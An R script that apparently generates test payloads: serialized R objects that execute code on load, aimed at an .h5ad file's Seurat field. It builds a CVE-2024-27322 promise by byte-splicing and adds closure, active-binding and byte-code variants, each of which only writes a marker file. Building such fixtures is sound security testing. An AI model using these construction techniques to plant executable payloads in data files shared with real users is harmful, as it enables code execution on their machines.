# Serialized R objects that run code, as an attacker would plant them in an .h5ad's
# uns['seurat']['r'] (the bytes hb_seurat_carry() writes there). Each payload writes the file
# `marker` when its code runs. Usage: Rscript carry_payloads.R <out-dir> <marker>
args <- commandArgs(trailingOnly = TRUE)
out <- args[[1]]
marker <- args[[2]]
code <- bquote(writeLines("ran", .(marker)))
ser_of <- function(x) serialize(x, connection = NULL, xdr = TRUE)
put <- function(x, name) writeBin(x, file.path(out, paste0(name, ".bin")))

# CVE-2024-27322: a promise at the top of the stream (value unbound, environment the global one,
# code the payload), made as the published proof of concept does, from a serialized call
ser <- ser_of(code)
header <- 2L + 12L + 4L + readBin(ser[15:18], "integer", endian = "big")  # "X\n", 3 ints, encoding
int <- function(...) writeBin(as.integer(c(...)), raw(), endian = "big")
put(c(ser[seq_len(header)], int(bitwOr(5L, bitwShiftL(1L, 10L)), 253L, 252L), ser[-seq_len(header)]), "promise")

# a function that runs the payload when called
put(ser_of(list(hook = eval(call("function", NULL, code)))), "closure")

# an active binding: reading `x` runs the payload
e <- new.env(parent = emptyenv())
makeActiveBinding("x", eval(call("function", NULL, code)), e)
put(ser_of(list(env = e)), "active")

# byte code: eval() of it runs the payload
put(ser_of(list(bc = compiler::compile(code))), "bytecode")
